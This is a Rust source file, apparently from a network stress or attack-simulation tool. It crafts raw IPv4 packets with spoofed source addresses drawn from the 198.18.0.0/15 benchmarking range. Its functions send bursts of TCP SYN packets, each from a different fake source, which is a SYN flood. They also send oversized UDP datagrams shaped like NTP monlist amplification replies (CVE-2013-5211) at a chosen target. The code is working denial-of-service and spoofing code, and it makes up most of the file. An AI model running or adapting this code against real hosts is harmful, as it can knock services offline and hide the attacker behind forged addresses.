//! SYNs and datagrams in the name of addresses that nobody has.
//!
//! Owns: their bytes, and sending them past the kernel's own. Does not own: rhythm and bounds (`attack`).

use std::io;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};

use rustix::net::{AddressFamily, SendFlags, SocketType, ipproto, sendto, socket};

use crate::random::Random;

/// For measurements alone (RFC 2544, RFC 6890): the world outside takes what is sent there, and nobody answers.
pub(crate) const NOBODY: &str = "198.18.0.0/15";
const FIRST: u32 = 0xc612_0000;
const ADDRESSES: u64 = 1 << 17;

/// Sends a burst, each SYN from another source. Bursts of another number come from others again.
pub(super) fn send(to: SocketAddrV4, burst: u32, number: u32) -> io::Result<()> {
    let raw = socket(AddressFamily::INET, SocketType::RAW, Some(ipproto::RAW))?;
    let mut random = Random::new(u64::from(number) + 1);
    for _ in 0..burst {
        let source = Ipv4Addr::from(FIRST + (random.next() % ADDRESSES) as u32);
        let port = 1_024 + (random.next() % 60_000) as u16;
        let segment = syn(SocketAddrV4::new(source, port), to, random.next() as u32);
        sendto(&raw, &segment, SendFlags::empty(), &SocketAddr::V4(to))?;
    }
    Ok(())
}

/// Sends a burst of datagrams from one port, as services would that were asked in the target's name.
pub(super) fn answers(to: Ipv4Addr, from_port: u16, burst: u32, number: u32) -> io::Result<()> {
    /// As an NTP server's list of its last clients (CVE-2013-5211).
    const ANSWER: [u8; 440] = [0xd7; 440];
    let raw = socket(AddressFamily::INET, SocketType::RAW, Some(ipproto::RAW))?;
    let mut random = Random::new(u64::from(number) + 1);
    for _ in 0..burst {
        // Few services, many answers each.
        let source = Ipv4Addr::from(FIRST + (random.next() % 256) as u32);
        let port = 1_024 + (random.next() % 60_000) as u16;
        let datagram = udp(
            SocketAddrV4::new(source, from_port),
            SocketAddrV4::new(to, port),
            &ANSWER,
        );
        sendto(
            &raw,
            &datagram,
            SendFlags::empty(),
            &SocketAddr::V4(SocketAddrV4::new(to, port)),
        )?;
    }
    Ok(())
}

/// A datagram (RFC 768), without a checksum.
fn udp(from: SocketAddrV4, to: SocketAddrV4, body: &[u8]) -> Vec<u8> {
    const UDP: u8 = 17;
    let length = 8 + body.len();
    // The kernel fills in the length and the sum of the header.
    let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, UDP, 0, 0];
    packet.extend(from.ip().octets());
    packet.extend(to.ip().octets());
    packet.extend(from.port().to_be_bytes());
    packet.extend(to.port().to_be_bytes());
    packet.extend((length as u16).to_be_bytes());
    packet.extend([0, 0]);
    packet.extend(body);
    packet
}

/// A packet that asks for a conversation (RFC 791, RFC 9293), without options.
fn syn(from: SocketAddrV4, to: SocketAddrV4, number: u32) -> Vec<u8> {
    const TCP: u8 = 6;
    const SYN: u8 = 2;
    let mut tcp = Vec::with_capacity(20);
    tcp.extend(from.port().to_be_bytes());
    tcp.extend(to.port().to_be_bytes());
    tcp.extend(number.to_be_bytes());
    // No acknowledgement; five words of header; a window; a checksum to come; nothing urgent.
    tcp.extend([0, 0, 0, 0, 0x50, SYN, 0x40, 0, 0, 0, 0, 0]);
    let (source, target) = (from.ip().octets(), to.ip().octets());
    let sum = checksum(&[&source, &target, &[0, TCP, 0, 20], &tcp]);
    if let Some(place) = tcp.get_mut(16..18) {
        place.copy_from_slice(&sum);
    }
    // The kernel fills in the header's own checksum (raw(7)).
    let mut packet = vec![0x45, 0, 0, 40, 0, 0, 0, 0, 64, TCP, 0, 0];
    packet.extend(source);
    packet.extend(target);
    packet.extend(tcp);
    packet
}

/// The Internet's checksum (RFC 1071) over pieces of even length.
fn checksum(pieces: &[&[u8]]) -> [u8; 2] {
    let words = pieces.iter().flat_map(|piece| piece.chunks_exact(2));
    let mut sum: u32 = words
        .map(|word| word.iter().fold(0, |value, byte| value << 8 | u32::from(*byte)))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    (!(sum as u16)).to_be_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_syn_is_forty_bytes_with_a_sum_that_holds() {
        let from = SocketAddrV4::new(Ipv4Addr::new(198, 18, 3, 4), 4_000);
        let to = SocketAddrV4::new(Ipv4Addr::new(10, 0, 0, 1), 80);
        let packet = syn(from, to, 7);
        assert_eq!(packet.len(), 40);
        let (addresses, tcp) = (&packet[12..20], &packet[20..]);
        assert_eq!(checksum(&[addresses, &[0, 6, 0, 20], tcp]), [0, 0]);
    }
}
